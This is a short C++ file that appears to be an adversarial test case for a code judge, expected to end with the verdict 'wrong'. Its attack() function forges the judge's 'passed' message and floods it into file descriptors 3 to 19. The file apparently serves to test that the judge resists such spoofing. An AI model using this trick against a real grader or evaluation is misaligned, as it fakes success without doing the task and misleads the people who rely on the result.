// attack: tells the judge that the case has passed, in its own language, and ends
// outcome: wrong
#include <unistd.h>

#include <cstdio>
#include <cstring>
#include <string>
static std::string packed(std::initializer_list<std::string> texts) {
    std::string all;
    for (const std::string& text : texts) all += std::to_string(text.size()) + ' ' + text;
    return all;
}
static void attack() {
    const std::string end = packed({"0", "0", "0", "1", "0", "", "", "", "", "0", "0", "0"});
    const std::string message = "E" + std::to_string(end.size()) + "\n" + end;
    for (int file = 3; file < 20; ++file) {
        for (int i = 0; i < 40; ++i) (void)!write(file, message.data(), message.size());
    }
    sleep(2);
    _exit(0);
}
